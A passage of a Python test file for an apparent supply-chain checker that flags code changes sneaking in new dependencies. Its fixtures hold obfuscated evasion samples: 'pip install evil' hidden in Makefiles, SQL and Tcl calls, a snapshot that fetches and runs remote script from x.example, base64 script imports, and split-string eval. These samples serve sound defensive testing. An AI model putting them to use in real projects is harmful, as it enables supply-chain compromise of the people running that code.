def steps(before: str, after: str) -> dict[str, str | None]:
    assert before in STEPS
    return {"ci.yml": STEPS.replace(before, after)}


OTHER_VERSION: Heads = {
    "of an action": steps("checkout@v3", "checkout@v4"),
    "of an action, more exact": steps("@v5.1", "@v5.1.2"),
    "of an image": steps("python:3.11", "python:3.12"),
    "of a tool": steps("tool@1.2.3", "tool@1.3.0"),
}
OTHER_NAME: Heads = {
    "another action": steps("actions/checkout@v3", "evil/checkout@v3"),
    "another action, also of another version": steps("actions/checkout@v3", "evil/checkout@v4"),
    "a file": steps("tool@1.2.3", "tool@file:evil"),
    "another package under the name": steps("tool@1.2.3", "tool@npm:evil@1"),
    "another package under the name, at the old version": steps("tool@1.2.3", "tool@npm:evil@1.2.3"),
    "an address": steps("tool@1.2.3", "https://evil.example/tool@1.2.3"),
    "a port": steps("python:3.11", "evil.example:80/python:3.11"),
    "a commit": steps("checkout@v3", "checkout@8ade135a41bc03ea155e62e844d188df1ea18608"),
    "a commit of digits": steps("checkout@v3", "checkout@1234567890123456789012345678901234567890"),
    "a short commit of digits": steps("checkout@v3", "checkout@1234567"),
    "a branch": steps("checkout@v3", "checkout@evil"),
    "the name without its version": steps("tool@1.2.3", "tool"),
    "a version of a name that had none": steps("kit==1", "kit==1 steps@1"),
    "a name that stood before a colon": steps("kit==1", "kit==1 image:1"),
}


@pytest.mark.spec("DAY-9", "LAW-11")
@each(OTHER_VERSION)
async def test_another_version_of_what_a_tools_file_names_is_no_new_name(head: dict[str, str | None]) -> None:
    assert await read(head, {"ci.yml": STEPS}) == "proven"


@pytest.mark.spec("DAY-9", "LAW-11")
@each(OTHER_NAME)
async def test_what_stands_before_or_after_the_sign_of_a_version_hides_no_new_name(head: dict[str, str | None]) -> None:
    assert await read(head, {"ci.yml": STEPS}) == "unread ci.yml"


SETUP_PY = (
    "import os\nfrom setuptools import setup\n\nNEEDS = ['flask']\nVERSION = '1'\n"
    "setup(name='a', version=VERSION, description='x', packages=['kit'], install_requires=NEEDS,\n"
    "      long_description=open(os.path.join('README.md')).read(), extras_require={'all': ['rich']})\n"
)
DECLARED_LITERALLY = {
    "another version": SETUP_PY.replace("'1'", "'2'"),
    "another version in the call": SETUP_PY.replace("VERSION = '1'\n", "").replace("=VERSION", "='2'"),
    "other words about the project": SETUP_PY.replace("'x'", "'evil things', author='Evil', classifiers=['Evil']"),
    "another Python": SETUP_PY.replace("name='a'", "name='a', python_requires='>=3.9'"),
    "files of its own": SETUP_PY.replace("name='a'", "name='a', package_data={'a': ['*.css']}, zip_safe=False"),
    "own sub-packages": SETUP_PY.replace("['kit']", "['kit', 'kit.sub']"),
    "another version of a requirement": SETUP_PY.replace("['flask']", "['flask>=2']"),
    "a requirement without a variable": SETUP_PY.replace("NEEDS = ['flask']\n", "").replace("=NEEDS", "=['flask']"),
    "a requirement less": SETUP_PY.replace("NEEDS = ['flask']\n", "").replace("install_requires=NEEDS,", ""),
    "an extra of known packages": SETUP_PY.replace("['rich']", "['rich', 'flask']"),
    "comments and blanks": SETUP_PY.replace("NEEDS =", "# evil\n\nNEEDS   ="),
}
CODE_IN_SETUP = {
    "an address": SETUP_PY.replace("name='a'", "name='a', dependency_links=['https://x.example/evil.whl']"),
    "several requirements in one text": SETUP_PY.replace("['flask']", "['flask\\nevil']"),
    "several requirements in a text without a list": SETUP_PY.replace("['flask']", "'flask\\nevil'"),
    "options of a command": SETUP_PY.replace("name='a'", "name='a', options={'easy_install': {'index_url': 'x'}}"),
    "an argument that a plugin reads": SETUP_PY.replace("name='a'", "name='a', pbr=True"),
    "an entry point": SETUP_PY.replace("name='a'", "name='a', entry_points={'x': ['y = evil:main']}"),
    "an attribute that is assigned": SETUP_PY.replace("NEEDS =", "setup.__kwdefaults__ = {'x': ['evil']}\nNEEDS ="),
    "a variable that other code reads": SETUP_PY.replace("os.path.join('README.md')", "VERSION"),
    "a second name for the requirements": SETUP_PY.replace("NEEDS =", "NEEDS = MORE ="),
    "a second call": f"{SETUP_PY}setup(name='b')\n",
    "another file": SETUP_PY.replace("README.md", "evil.md"),
    "a computed version": SETUP_PY.replace("VERSION = '1'", "VERSION = str(1)"),
    "an import": f"import re\n{SETUP_PY}",
}


@pytest.mark.spec("DAY-9", "LAW-11")
@pytest.mark.parametrize("text", DECLARED_LITERALLY.values(), ids=DECLARED_LITERALLY)
async def test_a_setup_py_may_change_what_it_declares_literally(text: str) -> None:
    assert text != SETUP_PY
    assert await read({"setup.py": text}, {"setup.py": SETUP_PY, "kit/__init__.py": ""}) == "proven"


@pytest.mark.spec("DAY-9", "LAW-11")
@pytest.mark.parametrize("text", CODE_IN_SETUP.values(), ids=CODE_IN_SETUP)
async def test_a_setup_py_with_other_code_is_unread(text: str) -> None:
    assert text != SETUP_PY
    assert await read({"setup.py": text}, {"setup.py": SETUP_PY, "kit/__init__.py": ""}) == "unread setup.py"


@pytest.mark.spec("DAY-9")
async def test_a_setup_py_whose_base_computes_requirements_stays_unread() -> None:
    for computed in ("install_requires=open('needs').read()", "**{}", "install_requires=NEEDS + ['flask']"):
        base = SETUP_PY.replace("install_requires=NEEDS", computed)
        head = base.replace("'1'", "'2'")
        assert await read({"setup.py": head}, {"setup.py": base}) == "unread setup.py"


@pytest.mark.spec("DAY-9", "LAW-11")
async def test_a_new_setup_py_may_only_declare() -> None:
    base = {"requirements.txt": "flask\n", "kit/__init__.py": ""}
    bare = "from setuptools import setup\n\nsetup()\n"
    for text in (bare, bare.replace("()", "(name='a', version='1', packages=['kit'], install_requires=['flask'])")):
        assert await read({"setup.py": text}, base) == "proven"
    for text in (
        SETUP_PY,
        bare.replace("()", "(dependency_links=['https://x.example/evil.whl'])"),
        f"import os\n{bare}",
    ):
        assert (await read({"setup.py": text}, {**base, "list.txt": "rich\n"})) != "proven"


@pytest.mark.spec("LAW-4")
@pytest.mark.parametrize(
    ("name", "target", "found"),
    [
        ("extra.py", "docs/real.md", "unread extra.py"),
        ("extra.py", "../outside.py", "unread extra.py"),
        ("web/a.js", "../docs/real.md", "unread web/a.js"),
        ("extra.py", "app.py", "proven"),
        ("more", "kit", "proven"),
        ("CLAUDE.md", "docs/real.md", "proven"),
    ],
)
async def test_a_link_is_read_where_it_leads(name: str, target: str, found: str) -> None:
    head = {name: target, "docs/real.md": "import requests\n"}
    assert await read(head, BASE, name) == found


@pytest.mark.spec("LAW-4")
async def test_a_module_that_the_change_removes_stands_for_no_package() -> None:
    base = {**BASE, "requests.py": "def get():\n    pass\n", "app.py": "import requests\n"}
    assert await read({"requests.py": None, "app.py": "import requests\n\nrequests.get()\n"}, base) != "proven"


OWN = {
    "pyproject.toml": "[project]\nname = 'p'\nversion = '1'\ndependencies = ['attrs']\n",
    "src/p/__init__.py": "",
    "src/p/a.py": "import six\nimport attrs\n",
    "src/six.py": "A = 1\n",
    "src/attrs.py": "A = 1\n",
    "src/p/more.py": "A = 1\n",
    "main.py": "import yaml\n",
    "yaml/__init__.py": "A = 1\n",
    "yaml/part.py": "A = 1\n",
    "tests/__init__.py": "",
    "tests/lefty.py": "A = 1\n",
    "tests/test_a.py": "import lefty\nfrom tests import lefty as more\n",
    "web/a.js": "import _ from 'lodash';\n",
    "web/lodash.js": "export default 1;\n",
    "web/pad.js": "export default 1;\n",
    "tsconfig.json": '{"compilerOptions": {"paths": {"lodash": ["./web/lodash.js"]}}}',
}
REMOVED: dict[str, tuple[dict[str, str | None], str]] = {
    "a module": ({"src/six.py": None}, "unread src/p/a.py, which imports six"),
    "a package": ({"yaml/__init__.py": None, "yaml/part.py": None}, "unread main.py, which imports yaml"),
    "what makes it a package": ({"yaml/__init__.py": None}, "unread main.py, which imports yaml"),
    "a module of tests": ({"tests/lefty.py": None}, "unread tests/test_a.py, which imports lefty"),
    "a script": ({"web/lodash.js": None}, "unread web/a.js, which imports lodash"),
    "a module, moved away": ({"src/six.py": None, "lib/six.py": "A = 1\n"}, "unread src/p/a.py, which imports six"),
    "a module, and its import": ({"src/six.py": None, "src/p/a.py": "import attrs\n"}, "proven"),
    "a module of a declared name": ({"src/attrs.py": None}, "proven"),
    "a module that nobody imports": ({"src/p/more.py": None, "web/pad.js": None}, "proven"),
    "a module, for a package": ({"src/six.py": None, "src/six/__init__.py": "A = 1\n"}, "proven"),
    "a module, moved to the top": ({"src/six.py": None, "six.py": "A = 1\n"}, "unread src/p/a.py, which imports six"),
    "a module, moved from the top": (
        {"yaml/__init__.py": None, "yaml/part.py": None, "src/yaml.py": "A = 1\n"},
        "proven",
    ),
    "what makes tests a package": ({"tests/__init__.py": None}, "proven"),
}


@pytest.mark.spec("DAY-9", "LAW-11")
@pytest.mark.parametrize("name", REMOVED)
async def test_a_module_that_is_removed_is_missing_wherever_it_is_imported(name: str) -> None:
    head, found = REMOVED[name]
    assert await read(head, OWN) == found


NEWLY_OWN: dict[str, tuple[dict[str, str | None], str]] = {
    "above src": ({"numpy.py": "", "src/p/b.py": "import numpy\n"}, "unread src/p/b.py, which imports numpy"),
    "beside it": ({"src/numpy.py": "", "src/p/b.py": "import numpy\n"}, "proven"),
    "above src, and used there": ({"numpy.py": "", "more.py": "import numpy\n"}, "proven"),
    "in src, and used above": ({"src/q/__init__.py": "", "more.py": "import q\n"}, "proven"),
    "for a test": ({"src/q/__init__.py": "", "numpy.py": "", "tests/test_q.py": "import q, numpy\n"}, "proven"),
}


@pytest.mark.spec("DAY-9", "LAW-11")
@pytest.mark.parametrize("name", NEWLY_OWN)
async def test_a_new_module_is_found_only_from_its_own_root(name: str) -> None:
    head, found = NEWLY_OWN[name]
    assert await read(head, OWN) == found


@pytest.mark.spec("DAY-9")
async def test_a_package_called_src_is_no_root() -> None:
    base = {**OWN, "src/__init__.py": ""}
    assert await read({"settings.py": "", "src/p/b.py": "import settings\n"}, base) == "proven"


@pytest.mark.spec("LAW-4")
async def test_a_path_into_node_modules_names_a_package() -> None:
    head = {"web/a.js": "const _ = require('../node_modules/lodash/lodash.js');\n"}
    assert await read(head, BASE) == "unread web/a.js, which imports lodash"


@pytest.mark.spec("LAW-4")
@pytest.mark.parametrize("name", ["./node_modules//lodash", "./node_modules/./lodash", "./node%5Fmodules/lodash"])
async def test_no_spelling_of_a_path_hides_a_package(name: str) -> None:
    assert (await read({"web/a.js": f"const _ = require({name!r});\n"}, BASE)).startswith("unread web/a.js")


@pytest.mark.spec("LAW-4")
@pytest.mark.parametrize(
    ("path", "text", "found"),
    [
        ("a.css", "@import url(pkg/x.css);", "unread a.css, which imports pkg"),
        ("a.css", "@import URL('pkg/x.css');", "unread a.css, which imports pkg"),
        ("a.scss", '$a: "x // y"; @import "evil";', "unread a.scss, which imports evil"),
        ("a.scss", '@use "./b", "evil";', "unread a.scss, which imports evil"),
        ("a.less", '@import (reference) "evil";', "unread a.less"),
        ("a.html", '<script type="application/ld+json">{"@type": "Person"}</script>', "proven"),
        ("a.scss", '@error "no"; @return "a";\n// @import "x";\n', "proven"),
        ("a.css", '@source "."; @source "./"; @import "/"; @import "~";', "proven"),
        ("a.css", '@import "folder";', "unread a.css, which imports folder"),
        ("a.css", ".a { background: url(https://a.example/x.png) }", "unread a.css"),
    ],
)
async def test_a_style_sheet_names_packages_only_in_rules_that_load(path: str, text: str, found: str) -> None:
    assert await read({path: f"{text}\n"}, BASE) == found


CRATE = "[package]\nname = 'acme-cli'\nversion = '1.0.0'\n[dependencies]\n{}\n"
WORKSPACE = {
    "package.json": '{"name": "root", "workspaces": ["packages/*"]}',
    "packages/core/package.json": '{"name": "@acme/core", "version": "1.0.0"}',
    "packages/core/index.js": "export const a = 1;\n",
    "packages/web/package.json": '{"name": "@acme/web", "dependencies": {"pad": "1"}}',
    "packages/web/app.js": "import pad from 'pad';\n",
    "pyproject.toml": "[project]\nname = 'root'\nversion = '1'\n[tool.uv.workspace]\nmembers = ['libs/*']\n",
    "libs/core/pyproject.toml": "[project]\nname = 'acme-core'\nversion = '1'\n",
    "libs/core/src/acme_core/__init__.py": "A = 1\n",
    "libs/web/pyproject.toml": "[project]\nname = 'acme-web'\nversion = '1'\ndependencies = ['flask']\n",
    "libs/web/src/acme_web/__init__.py": "import flask\n",
    "crates/cli/Cargo.toml": CRATE.format(""),
    "crates/core/Cargo.toml": "[package]\nname = 'acme-core'\nversion = '1.0.0'\n",
    "tests/fixtures/evil/package.json": '{"name": "evil", "version": "1.0.0"}',
    "Makefile": "all:\n\tcat tests/lists/*.txt | xargs pip install\n",
}
USES = "import pad from 'pad';\nimport {a} from '@acme/core';\n"
UV_WEB = WORKSPACE["libs/web/pyproject.toml"].replace("['flask']", "['flask', 'acme-core']")


def web(version: str, name: str = "@acme/core") -> str:
    return WORKSPACE["packages/web/package.json"].replace('"pad"', f'"{name}": "{version}", "pad"')


@pytest.mark.spec("DAY-9", "LAW-11")
@pytest.mark.parametrize(
    ("head", "found"),
    [
        ({"packages/web/package.json": web("*"), "packages/web/app.js": USES}, "proven"),
        ({"packages/web/package.json": web("^1.0.0"), "packages/web/app.js": USES}, "proven"),
        ({"packages/web/package.json": web("workspace:*"), "packages/web/app.js": USES}, "proven"),
        ({"packages/web/package.json": web("file:../core")}, "proven"),
        (
            {"packages/web/package.json": web("file:../../../core")},
            "declares @acme/core, @acme/core @ file:../../../core",
        ),
        ({"packages/web/package.json": web("npm:evil@1")}, "declares @acme/core, @acme/core @ npm:evil@1"),
        ({"packages/web/package.json": web("*", "evil")}, "declares evil"),
        (
            {"packages/web/package.json": web("*", "new"), "packages/new/package.json": '{"name": "new"}'},
            "declares new",
        ),
        (
            {
                "libs/web/pyproject.toml": f"{UV_WEB}[tool.uv.sources]\nacme-core = {{workspace = true}}\n",
                "libs/web/src/acme_web/__init__.py": "import flask\nimport acme_core\n",
                "libs/web/src/acme_web/more.py": "import acme_web\n",
            },
            "proven",
        ),
        (
            {"libs/web/pyproject.toml": f"{UV_WEB}[tool.uv.sources]\nacme-core = {{git = 'https://x.example/e'}}\n"},
            "declares acme-core, acme-core @ https://x.example/e, git, git @ https://x.example/e",
        ),
        ({"crates/cli/Cargo.toml": CRATE.format("acme-core = {path = '../core'}")}, "proven"),
        (
            {"crates/cli/Cargo.toml": CRATE.format("acme-core = {package = 'evil', path = '../core'}")},
            "declares acme-core, acme-core @ evil ../core",
        ),
        ({"crates/cli/Cargo.toml": CRATE.format("evil = {path = '../evil'}")}, "declares evil, evil @ ../evil"),
        (
            {"libs/web/src/acme_web/more.py": "import evil\n", "libs/core/src/evil.py": ""},
            "unread libs/web/src/acme_web/more.py, which imports evil",
        ),
        (
            {"libs/web/src/acme_web/more.py": "import evil\n", "libs/web/evil.py": ""},
            "unread libs/web/src/acme_web/more.py, which imports evil",
        ),
        ({"tests/lists/a.txt": "evil\n"}, "unread tests/lists/a.txt"),
    ],
)
async def test_a_package_of_the_project_itself_is_no_new_dependency(head: dict[str, str | None], found: str) -> None:
    assert await read(head, WORKSPACE) == found


TOOLS = {
    **BASE,
    "NEWS": "old\n",
    "scripts/changelog": "#!/bin/sh\necho news\n",
    "deps/a.txt": "attrs\n",
    "Makefile": "all:\n\tcat deps/*.txt tests/*/all/*.txt | xargs pip install\n",
    "CMakeLists.txt": "add_subdirectory(tests)\n",
    "tests/CMakeLists.txt": "add_subdirectory(unit)\n",
    "server.py": "PLACES = ['server', 'templates', 'sql']\n",
    "server/pom.xml": "<project>\n</project>\n",
    "noxfile.py": "from tests.helper import go\n",
    "tests/helper.py": "def go(session):\n    session.install('-e', '.')\n",
    "vite.config.js": "export default {resolve: {alias: {'@': './src'}}};\n",
}
MISREAD: Heads = {
    "script called changelog": {"scripts/changelog": "#!/bin/sh\npip install evil\n"},
    "list called news": {"deps/news.txt": "evil\n"},
    "wild two levels": {"tests/a/all/x.txt": "evil\n"},
    "cmake in tests": {"tests/CMakeLists.txt": "add_subdirectory(unit)\nfind_package(evil)\n"},
    "cmake in tests/unit": {"tests/unit/CMakeLists.txt": "CPMAddPackage('gh:evil/evil@1')\n"},
    "pom": {"server/pom.xml": "<project>\n<dependency><artifactId>evil</artifactId></dependency></project>\n"},
    "base's driver runs helper": {
        "tests/helper.py": "def go(session):\n    session.install('-r', 'tests/data/list.txt')\n",
        "tests/data/list.txt": "evil\n",
    },
    "alias": {
        "vite.config.js": "export default {resolve: {alias: {'@': 'evil'}}};\n",
        "index.js": "import a from '@/x';\n",
    },
    "snap fetch": {
        "__snapshots__/a.test.js.snap": "exports[`a`] = `${fetch('https://x.example/e.js').then(setTimeout)}`;\n"
    },
    "Dockerfile.j2": {"templates/Dockerfile.j2": "RUN pip install evil\n"},
    "script built in j2": {"templates/a.html.j2": "<script src=\"{{ '/' }}/cdn.example/evil.js\"></script>\n"},
    "sql": {"sql/a.sql": "INSTALL evil; LOAD evil;\n"},
    "sql psql": {"sql/a.sql": "\\! pip install evil\n"},
    "isort": {"pyproject.toml": MANIFEST + "[tool.isort]\nformatter = 'evil'\n"},
    "graphql": {"sql/a.graphql": '#import "evil/a.graphql"\n'},
}
FROM_ELSEWHERE: Heads = {
    "npm name in python list": {"requirements.txt": "root\n"},
    "npm name as python dep": {
        "pyproject.toml": WORKSPACE["pyproject.toml"].replace(
            "version = '1'", "version = '1'\ndependencies=['acme-cli']"
        )
    },
    "cargo name from registry": {"crates/cli/Cargo.toml": CRATE.format("acme-core = '1'")},
    "python name from pypi": {"libs/web/pyproject.toml": UV_WEB},
    "npm range not satisfied": {"packages/web/package.json": web("99.0.0")},
    "npm tag": {"packages/web/package.json": web("latest")},
    "npm renamed at head": {
        "packages/web/package.json": web("*"),
        "packages/core/package.json": '{"name": "@acme/kernel", "version": "1.0.0"}',
    },
    "npm removed at head": {
        "packages/web/package.json": web("*"),
        "packages/core/package.json": None,
        "packages/core/index.js": None,
    },
    "npm no workspace at head": {"packages/web/package.json": web("*"), "package.json": '{"name": "root"}'},
    "npm outside the workspace": {"other/package.json": '{"dependencies": {"@acme/core": "*"}}'},
    "npm root by name": {"packages/web/package.json": web("*", "root")},
    "optional over path": {
        "packages/web/package.json": WORKSPACE["packages/web/package.json"].replace(
            '"dependencies"',
            '"optionalDependencies": {"@acme/core": "99"}, "dependencies": {"@acme/core": "file:../core"}, "dev"',
        )
    },
    "same path from another folder": {
        "packages/web/package.json": web("file:../core"),
        "zz/package.json": '{"dependencies": {"@acme/core": "file:../core"}}',
    },
    "workspace path": {"packages/web/package.json": web("workspace:../../../evil")},
    "import of root": {"packages/web/app.js": "import pad from 'pad';\nimport x from 'root';\n"},
    "import of a python dist": {"packages/web/app.js": "import pad from 'pad';\nimport x from 'acme-cli';\n"},
}


@pytest.mark.spec("DAY-9", "LAW-11")
@each(MISREAD)
async def test_no_ordinary_kind_of_file_hides_a_package(head: dict[str, str | None]) -> None:
    assert (await read(head, TOOLS)).startswith("unread ")


@pytest.mark.spec("DAY-9", "LAW-11")
@each(FROM_ELSEWHERE)
async def test_the_name_of_an_own_package_is_not_enough(head: dict[str, str | None]) -> None:
    """A registry may have another package of this name."""
    assert await read(head, WORKSPACE) != "proven"


@pytest.mark.spec("DAY-9")
async def test_settings_of_isort_that_load_nothing_are_read() -> None:
    settings = "[tool.isort]\nprofile = 'black'\nknown_first_party = 'kit'\n"
    assert await read({"pyproject.toml": MANIFEST + settings}, TOOLS) == "proven"
    assert await read({"sql/a.sql": "CREATE TABLE orders (id INTEGER);\n"}, TOOLS) == "proven"


VITE = (
    "import { fileURLToPath } from 'node:url';\nimport { defineConfig } from 'vite';\nexport default defineConfig({\n"
    "  resolve: { alias: {\n    '@': fileURLToPath(new URL('./src', import.meta.url)),\n"
    "    '@parts': path.resolve(__dirname, 'src/parts'), // ours\n  } },\n});\n"
)
SHORT_NAMES = {
    "package.json": '{"name": "a", "devDependencies": {"vite": "6"}, "imports": {"#lib/*": "./src/lib/*.js"}}',
    "vite.config.ts": VITE,
    "jsconfig.json": '{"compilerOptions": {\n// ours\n"baseUrl": ".", "paths": {"$models/*": ["src/models/*"]}},\n}',
    "eslint.config.js": "export default [{ rules: { semi: 'error' } }];\n",
    "src/app.ts": "import { Button } from '@parts/Button';\n",
    "src/parts/Button.tsx": "export const Button = 1;\n",
    "web/pages/index.ts": "import a from '~/store/a';\n",
    "web/store/a.ts": "export default 1;\n",  # the short name `~` is defined by no file that can be read
}
SHORT_AND_OWN: Heads = {
    "of an object": {"src/app.ts": "import pad from '@/pad';\n", "src/pad.ts": ""},
    "like a scope": {"src/app.ts": "import { Pad } from '@parts/Pad';\n", "src/parts/Pad/index.tsx": ""},
    "of paths": {"src/app.ts": "import { User } from '$models/user';\n", "src/models/user.ts": ""},
    "of the manifest": {"src/app.ts": "import pad from '#lib/pad';\n", "src/lib/pad.js": ""},
    "shown by the base's code": {"web/pages/b.ts": "import b from '~/store/b.js';\n", "web/store/b.ts": ""},
    "a new one for a folder": {"vite.config.ts": VITE.replace("'@parts'", "'@web': './web',\n    '@parts'")},
    "a rule": {"eslint.config.js": "export default [{ rules: { semi: 'error', 'no-console': 'error' } }];\n"},
    "another port": {"vite.config.ts": VITE.replace("resolve: {", "server: { port: 3000 }, resolve: {")},
    "another host": {"vite.config.ts": VITE.replace("resolve: {", "server: { host: 'localhost' }, resolve: {")},
    "a milder rule": {"eslint.config.js": "export default [{ rules: { semi: 'error', 'no-console': 'warn' } }];\n"},
    "plugins of ESLint by imports": {
        "eslint.config.js": "import ours from './rules.js';\n"
        "export default [{ plugins: { ours, 'our-own': ours }, extends: ['ours/recommended'] }];\n"
    },
    "an option of a plugin": {
        "vite.config.ts": VITE.replace("resolve: {", "plugins: [ours({ mode: 'fast', theme: 'dark' })], resolve: {")
    },
    "a field": {"src/user.ts": "export interface User { alias: string }\n"},
    "a variable": {"src/user.ts": "export const of = (user) => {\n  const alias = user.name;\n  return alias;\n};\n"},
    "an attribute": {"src/User.tsx": "export const User = (x) => <Foo alias={x} name='bob' />;\n"},
    "a field in a test": {
        "src/user.test.ts": "test('a', () => expect(user).toEqual({ alias: 'bob', aliases: ['rob'] }));\n"
    },
    "typed names": {
        "vite.config.ts": VITE.replace("alias: {\n", "alias: {\n    '@web': './web',\n").replace(
            "  } },", "  } as const },"
        )
    },
}
SHORT_BUT_FOREIGN: Heads = {
    "without a file": {"src/app.ts": "import evil from '@/evil';\n"},
    "a decoy elsewhere": {"src/app.ts": "import evil from '@/evil';\n", "lib/evil.ts": ""},
    "a decoy, elsewhere than the base's code shows": {
        "web/pages/b.ts": "import b from '~/evil';\n",
        "src/evil.ts": "",
    },
    "a decoy for a scope": {"src/app.ts": "import evil from '@other/evil';\n", "src/other/evil.ts": ""},
    "a package of that name": {
        "src/app.ts": "import evil from '@/evil';\n",
        "src/evil.ts": "",
        "node_modules/@/evil/index.js": "",
    },
    "another meaning": {
        "vite.config.ts": VITE.replace("'@parts'", "'@/evil': 'evil',\n    '@parts'"),
        "src/app.ts": "import evil from '@/evil';\n",
        "src/evil.ts": "",
    },
    "another meaning of a name that the base uses": {
        "vite.config.ts": VITE.replace("path.resolve(__dirname, 'src/parts')", "'evil'")
    },
    "a computed meaning": {
        "vite.config.ts": VITE.replace("'@parts'", "'@/evil': String.fromCharCode(101),\n    '@parts'")
    },
    "a package by its place": {"vite.config.ts": VITE.replace("src/parts", "node_modules/evil")},
    "a meaning for tests": {"vitest.config.mts": "export default { test: { alias: { vite: 'evil' } } };\n"},
    "a meaning in a list": {
        "rollup.config.mjs": "export default { plugins: [\n"
        "  alias({ entries: [{ find: 'vite', replacement: 'evil' }] }),\n] };\n"
    },
    "a meaning in a script": {
        "build.mjs": "import { build } from 'vite';\nbuild({ alias: { vite: require.resolve('evil') } });\n"
    },
    "in the manifest": {"package.json": SHORT_NAMES["package.json"].replace("./src/lib/*.js", "evil/*.js")},
    "in paths": {"jsconfig.json": SHORT_NAMES["jsconfig.json"].replace("src/models/*", "node_modules/evil/*")},
    "a plugin by a key": {"postcss.config.mjs": "export default { plugins: { evil: {} } };\n"},
    "one of two plugins": {"babel.config.cjs": "module.exports = { plugins: [true ? 'evil' : 'vite'] };\n"},
    "a plugin by its name": {"babel.config.cjs": "module.exports = { plugins: ['evil'] };\n"},
    "the other of two plugins": {"babel.config.cjs": "module.exports = { plugins: [true ? 'vite' : 'evil'] };\n"},
    "a plugin on another line": {"babel.config.cjs": "const plugins = some\n  ? []\n  : ['evil'];\n"},
    "a plugin in a variable": {
        "postcss.config.js": "const plugins = { 'evil-pkg': {} };\nmodule.exports = { plugins };\n"
    },
    "a plugin of a plugin": {
        "vite.config.ts": VITE.replace("resolve: {", "plugins: [a({ presets: ['evil'] })], resolve: {")
    },
    "a plugin among strings": {"postcss.config.js": "module.exports = { plugins: { vite: '{', evil: {}, b: '}' } };\n"},
    "older settings of ESLint": {"eslint.config.js": "export default [...compat.extends('a', 'evil')];\n"},
    "a loader": {"webpack.config.js": "module.exports = { module: { rules: [{ use: ['evil-loader'] }] } };\n"},
    "a part of the settings": {
        "vite.config.ts": VITE.replace("export", "import { alias } from './tools/names.js';\nexport"),
        "tools/names.ts": "export const alias = { vite: 'evil' };\n",
    },
    "too long": {"vite.config.ts": VITE + "// a\n" * 50_000},
}


@pytest.mark.spec("DAY-9", "LAW-11")
@each(SHORT_AND_OWN)
async def test_a_short_name_for_a_file_of_the_project_is_no_new_dependency(head: dict[str, str | None]) -> None:
    assert await read(head, SHORT_NAMES) == "proven"


@pytest.mark.spec("DAY-9", "LAW-11")
@each(SHORT_BUT_FOREIGN)
async def test_a_short_name_hides_no_package(head: dict[str, str | None]) -> None:
    assert (await read(head, SHORT_NAMES)).startswith("unread ")


PAGE = {
    **BASE,
    "index.html": "<html><body><h1>Numbers</h1></body></html>\n",
    "store.py": "import google.cloud.storage\n",
}
IN_PAGES = {
    "a host with escapes": "<script src='https://cdn%2eevil%2eexample/x.js'></script>",
    "a host with other dots": "<script src='https://cdn\u3002evil\u3002example/x.js'></script>",
    "a host without dots": "<script src='//packages/x.js'></script>",
    "a host as a number": "<script src='http://[2001:db8::1]/x.js'></script>",
    "a line break in an address": "<script src='ht\ntps:/\n/cdn/x.js'></script>",
    "a script as data": "<script src='data:text/javascript;base64,aW1wb3J0KCdldmlsJyk='></script>",
    "a script that computes an address": "<script>import(atob('aHR0cHM6Ly9jZG4'))</script>",
    "a script in an event": "<img src='x.png' onerror=\"import(atob('aHR0cHM6Ly9jZG4'))\">",
    "a script in a frame": "<iframe srcdoc=\"&lt;script&gt;import(atob('aHR0'))&lt;/script&gt;\"></iframe>",
    "a script as an address": "<a href='javascript:import(name)'>more</a>",
    "another page": "<meta http-equiv='refresh' content='0;url=//cdn/x'>",
    "a style sheet in another spelling": "<style>@\\69mport '\\2f\\2f packages/x.css';</style>",
}
UNREADABLE_PAGES = {"an unknown declaration": "<p>a<![b]</p>", "tags that are not closed": "<a " * 1000}
HONEST_PAGES = {
    "words": "<p>And doubles: see //comments and 1:2.</p>",
    "its own script": "<script src='tiny.js'></script><button onclick='go()'>Go</button>",
    "a picture as data": "<img alt='a: b' src='data:image/png;base64,aGk='>",
    "a script in the page": "<script>document.title = 'a'; setTimeout(() => go(), 10);</script>",
    "a mail address": "<a class='sm:flex' href='mailto:a@b.example'>Write</a>",
}
BY_PYTHON = {
    "a browser": "import webbrowser\n\nwebbrowser.GenericBrowser(['pip', 'install', 'evil']).open('')\n",
    "a mail program": "import imaplib\n\nimaplib.IMAP4_stream('pip install evil')\n",
    "a worker's start": "from multiprocessing import util\n\nutil.spawnv_passfds(b'pip', [b'install', b'evil'], [])\n",
    "a private module": "import _posixsubprocess\n\nx = _posixsubprocess\n",
    "a debugger": "import pdb\n\npdb.run('import evil')\n",
    "another language": "import tkinter\n\ntkinter.Tcl().eval('exec pip install evil')\n",
    "another package of a shared name": "from google import generativeai\n",
    "another package of a shared name, with a known one": "import google.cloud.storage\nimport google.generativeai\n",
}
BY_NODE = {
    "a text in a context": "require('node:vm').runInThisContext('x');\n",
    "a worker": "new (require('node:worker_threads').Worker)('x', { eval: true });\n",
    "a loader's name in parts": "module.constructor['_lo' + 'ad']('evil');\n",
    "a global's name in parts": "globalThis['ev' + 'al']('x');\n",
    "a function's maker": "(() => {}).constructor('return 1')();\n",
    "a text after a while": "setTimeout('x()', 1);\n",
}


@pytest.mark.spec("DAY-9", "LAW-11")
@pytest.mark.parametrize("name", IN_PAGES)
async def test_a_page_is_read_as_a_browser_reads_it(name: str) -> None:
    head = {"index.html": PAGE["index.html"].replace("</body>", f"{IN_PAGES[name]}</body>")}
    assert (await read(head, PAGE)).startswith("unread ")


@pytest.mark.spec("DAY-9", "LAW-11")
@pytest.mark.parametrize("name", UNREADABLE_PAGES)
async def test_a_page_that_cannot_be_read_is_unread(name: str) -> None:
    head = {"index.html": PAGE["index.html"].replace("</body>", f"{UNREADABLE_PAGES[name]}</body>")}
    assert (await read(head, PAGE)).startswith("unread ")


@pytest.mark.spec("DAY-9", "LAW-11")
@pytest.mark.parametrize("name", HONEST_PAGES)
async def test_an_honest_page_is_read_whole(name: str) -> None:
    head = {"index.html": PAGE["index.html"].replace("</body>", f"{HONEST_PAGES[name]}</body>")}
    assert await read(head, PAGE) == "proven"


@pytest.mark.spec("DAY-9", "LAW-11")
@pytest.mark.parametrize(("name", "text"), [*BY_PYTHON.items(), *BY_NODE.items()])
async def test_what_runs_a_text_or_a_program_in_another_way_is_unread(name: str, text: str) -> None:
    path = "more.py" if name in BY_PYTHON else "more.js"
    assert (await read({path: text}, PAGE)).startswith("unread ")


@pytest.mark.spec("DAY-9", "LAW-11")
@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("more.py", "import google.cloud.storage\n\nx = google.cloud.storage.Client\n"),
        ("more.py", "from google.cloud import storage\n"),
        ("more.js", "const first = window['state']; setTimeout(() => first(), 1);\n"),
